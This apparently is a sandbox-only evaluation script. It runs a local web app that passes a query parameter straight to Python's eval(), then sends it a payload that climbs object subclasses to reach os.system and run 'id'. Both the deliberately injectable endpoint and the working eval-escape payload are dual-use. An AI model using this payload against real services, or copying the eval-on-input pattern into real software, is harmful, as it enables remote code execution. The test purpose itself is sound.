"""The application, and two visits."""

import os
import threading
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterable
from typing import Any
from wsgiref.simple_server import WSGIRequestHandler, make_server

if not os.path.exists("/.sandbox"):
    raise SystemExit("runs in the sandbox only: evals/README.md")


class Quiet(WSGIRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


def application(environ: dict[str, Any], start: Callable[..., object]) -> Iterable[bytes]:
    asked = urllib.parse.parse_qs(environ["QUERY_STRING"])["q"][0]
    start("200 OK", [])
    return [str(eval(asked)).encode()]


ESCAPE = (
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['system']('id >/dev/null')"
)
server = make_server("127.0.0.1", 8017, application, handler_class=Quiet)
threading.Thread(target=server.serve_forever, daemon=True).start()
for query in ("6 * 7", ESCAPE):
    urllib.request.urlopen(f"http://127.0.0.1:8017/?q={urllib.parse.quote(query)}", timeout=8).read()
